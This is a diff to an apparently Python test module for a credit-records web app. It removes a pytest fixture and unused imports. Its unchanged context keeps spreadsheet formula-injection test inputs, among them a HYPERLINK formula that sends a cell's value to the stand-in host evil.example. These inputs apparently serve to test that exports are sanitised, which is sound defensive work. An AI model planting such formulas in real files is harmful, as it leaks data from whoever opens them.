@@ -13,7 +13,6 @@ from collections.abc import Callable, Iterable
 from pathlib import Path
 from typing import Any
 
-import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 from sqlalchemy import select
@@ -21,11 +20,10 @@ from sqlalchemy.orm import Session
 from typer.testing import CliRunner
 
 from tests.accounts import DEMO_PASSWORD, ENTERPRISE_CODE
-from tests.consent.world import World, build_world
+from tests.consent.world import World
 from tests.web.conftest import csrf_of, sign_in
 from xinyidai.cli import app as cli
 from xinyidai.iam import service as iam_service
-from xinyidai.iam.service import DemoAccount
 from xinyidai.records.models import CreditRecord
 
 Auth = Callable[[str], dict[str, str]]
@@ -35,11 +33,6 @@ FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
 CATEGORY = "tax_arrears"  # the tax department's own category
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?org="&A1,"bank")'
 PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
-
-
-@pytest.fixture
-def world(session: Session, demo: list[DemoAccount]) -> World:
-    return build_world(session)
 
 
 def _row(n: int, tax_type: str, amount: str = "1200.50") -> dict[str, Any]:
